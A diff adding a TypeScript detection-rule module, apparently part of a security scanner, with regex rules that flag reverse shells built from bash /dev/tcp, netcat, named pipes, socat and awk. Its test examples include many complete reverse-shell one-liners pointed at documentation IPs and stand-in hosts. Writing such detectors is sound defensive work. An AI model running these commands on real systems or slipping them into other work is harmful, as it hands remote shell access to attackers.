@@ -1,0 +1,189 @@
+import type { Rule, RuleMatch } from '../../rule.ts';
+import { expression } from '../boundary.ts';
+import { GAP, WORD_START } from '../shell_syntax.ts';
+import { REVERSE_SHELL } from './format.ts';
+
+const SHELL_PATH = `(?:[/A-Za-z]{0,24}/)?(?:ba|z|da|k|a)?sh(?![A-Za-z0-9_-])`;
+const NETCAT = String.raw`(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?`;
+
+/** A port check also opens /dev/tcp; a shell that is wired to it reads from it or writes to it. */
+function wiresShell({ text, before, after }: RuleMatch): boolean {
+  const around = before + text + after;
+  return (
+    /(?:ba|z|da|k)?sh[ \t]{1,4}-[a-z]{0,3}i|[0-9]?[<>]&[ \t]{0,2}[0-9]|exec[ \t]{1,4}[0-9]{1,3}<>|&>|>&/.test(
+      around,
+    ) && /sh\b|exec|while|cat|read/.test(around)
+  );
+}
+
+const DEV_TCP = String.raw`/dev/(?:tcp|udp)/[A-Za-z0-9.$\[\]:\{\}_-]{1,80}/[0-9$\{A-Za-z]{1,24}`;
+
+/** Reverse shells made of programs. */
+export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
+  {
+    ...REVERSE_SHELL,
+    id: 'dev_tcp_reverse_shell',
+    keywords: ['/dev/tcp/', '/dev/udp/'],
+    expression: new RegExp(DEV_TCP, 'gi'),
+    reach: { before: 0, after: 120 },
+    validate: wiresShell,
+    describes: "A shell wired to a network connection by bash's /dev/tcp.",
+    finds: [
+      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+      '0<&196;exec 196<>/dev/tcp/192.0.2.1/9001; sh <&196 >&196 2>&196',
+      'exec 5<>/dev/tcp/x.example/443;cat <&5 | while read l; do $l 2>&5 >&5; done',
+      'sh -i >& /dev/udp/$H/$P 0>&1',
+    ],
+    ignores: ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'bash supports /dev/tcp/host/port', 'ls /dev/tcp'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'dev_tcp_connection',
+    severity: 'medium',
+    confidence: 'low',
+    keywords: ['/dev/tcp/', '/dev/udp/'],
+    expression: expression('gi', String.raw`[<>][ \t]{0,4}\\{0,2}["']?`, DEV_TCP),
+    reach: { before: 8, after: 120 },
+    validate: (match) => !wiresShell(match),
+    describes: "A network connection opened by bash's /dev/tcp.",
+    finds: [
+      '(echo > /dev/tcp/db.example/5432)',
+      'cat notes.txt >/dev/tcp/192.0.2.1/80',
+      'timeout 1 cat < /dev/tcp/x.example/22',
+    ],
+    ignores: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'see /dev/tcp/host/port', '>/dev/null'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'netcat_exec_shell',
+    keywords: [
+      'e /bin/',
+      'c /bin/',
+      'e /usr/',
+      'c /usr/',
+      'e bash',
+      'c bash',
+      '-e sh',
+      '-c sh',
+      '-e zsh',
+      '-e cmd',
+      '-c cmd',
+      '-e powershell',
+      '-e "',
+      "-e '",
+      '-e $',
+      'exec /bin',
+      'exec bash',
+      'exec sh',
+      'exec "',
+      'exec=',
+      'e=/bin',
+    ],
+    expression: expression(
+      'gi',
+      WORD_START,
+      NETCAT,
+      GAP,
+      String.raw`[^\r\n|;]{0,100}?-{1,2}(?:[a-z0-9]{0,6}[ec]|exec|sh-exec)(?:[ \t]{1,4}|=)\\{0,2}["']?`,
+      String.raw`(?:${SHELL_PATH}|cmd(?:\.exe)?\b|powershell(?:\.exe)?\b|\$SHELL\b)`,
+      String.raw`[^\r\n;|]{0,60}`,
+    ),
+    reach: { before: 180, after: 110 },
+    describes: 'Netcat that hands a shell to the other end.',
+    finds: [
+      'nc -e /bin/sh 192.0.2.1 4444',
+      'ncat 192.0.2.1 4444 -e /bin/bash',
+      'nc -nve bash 192.0.2.1 9',
+      'ncat --exec /bin/sh x.example 99',
+      'nc.exe 192.0.2.1 4444 -e cmd.exe',
+    ],
+    ignores: ['nc -zv host 22', 'rsync -e ssh a b', 'nc -l 8080 -c', 'sync -e /bin/sh'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'netcat_piped_shell',
+    keywords: [
+      'telnet',
+      'netcat',
+      'ncat',
+      '| sh',
+      '|sh',
+      '| bash',
+      '|bash',
+      '| /bin/',
+      '|/bin/',
+      '| nc',
+      '|nc',
+    ],
+    expression: expression(
+      'gi',
+      '(?:',
+      `${WORD_START}(?:${NETCAT}|telnet)${GAP}(?:-[a-z]{1,6}[ \\t]{1,4})?[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}${SHELL_PATH}`,
+      `|${WORD_START}${SHELL_PATH}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}(?:${NETCAT}|telnet)${GAP}[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}`,
+      ')',
+    ),
+    reach: { before: 220, after: 230 },
+    describes: 'A network connection that is piped through a shell.',
+    finds: [
+      'nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445',
+      'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
+      'nc -lvp 4444 | bash',
+      '/bin/sh -i 2>&1 | nc x.example 9001 > /tmp/p',
+    ],
+    ignores: ['nc -z host 22 | tee log', 'echo hi | nc host 9000', 'telnet is old | sh is older'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'fifo_reverse_shell',
+    keywords: ['mkfifo', 'mknod'],
+    expression: expression(
+      'gi',
+      WORD_START,
+      String.raw`(?:mkfifo|mknod)[ \t]{1,4}[^\s;&|]{1,60}[^\r\n]{1,200}?(?:\bnc\b|ncat|netcat|telnet|s_client|socat)[^\r\n]{0,160}`,
+    ),
+    reach: { before: 0, after: 450 },
+    validate: ({ text }) => /(?<![A-Za-z0-9_.-])(?:ba|z|da|k)?sh(?![A-Za-z0-9_.-])/.test(text),
+    describes: 'A shell wired to a network connection by a named pipe.',
+    finds: [
+      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f',
+      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
+      'mknod /tmp/b p; telnet 192.0.2.1 99 0</tmp/b | /bin/bash 1>/tmp/b',
+    ],
+    ignores: ['mkfifo /tmp/pipe', 'mkfifo p; nc -l 80 > p', 'mknod /dev/null c 1 3'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'socat_exec_shell',
+    keywords: ['socat'],
+    expression: expression(
+      'gi',
+      WORD_START,
+      String.raw`socat\b[^\r\n]{1,200}?(?:exec|system):\\{0,2}["']?`,
+      String.raw`(?:${SHELL_PATH}|cmd|powershell|login)[^\r\n;|]{0,120}`,
+    ),
+    reach: { before: 0, after: 370 },
+    validate: ({ text }) => /(?:tcp|udp|openssl|sctp|socks)[46]?(?:-|:|_|l)/i.test(text),
+    describes: 'A shell that socat connects to the network.',
+    finds: [
+      "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
+      'socat TCP:x.example:99 EXEC:/bin/sh',
+      'socat openssl-connect:192.0.2.1:443,verify=0 exec:/bin/bash,pty',
+    ],
+    ignores: ['socat TCP-LISTEN:80,fork TCP:web:8080', 'socat is like netcat', 'socat - EXEC:/bin/sh'],
+  },
+  {
+    ...REVERSE_SHELL,
+    id: 'awk_reverse_shell',
+    keywords: ['/inet/tcp/', '/inet/udp/', '/inet4/tcp/'],
+    expression: /\/inet4?\/(?:tcp|udp)\/[0-9]{1,5}\/[^\s"'/]{1,80}\/[^\s"'/]{1,12}[^\r\n]{0,200}/gi,
+    reach: { before: 0, after: 320 },
+    validate: ({ text, after }) => /\|&|getline|while/.test(text + after),
+    describes: 'A shell that awk connects to the network.',
+    finds: [
+      `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; } } }'`,
+      `gawk 'BEGIN{s="/inet/tcp/0/x.example/99";while(1){s|&getline c;while(c|getline)print|&s}}'`,
+      'awk \'BEGIN{s="/inet/udp/0/192.0.2.1/53"; s |& getline x; system(x)}\'',
+    ],
+    ignores: ['/inet/tcp/0/host/80', 'gawk supports /inet/tcp/', 'cat /inet/tcp/0/a/1'],
+  },
+];
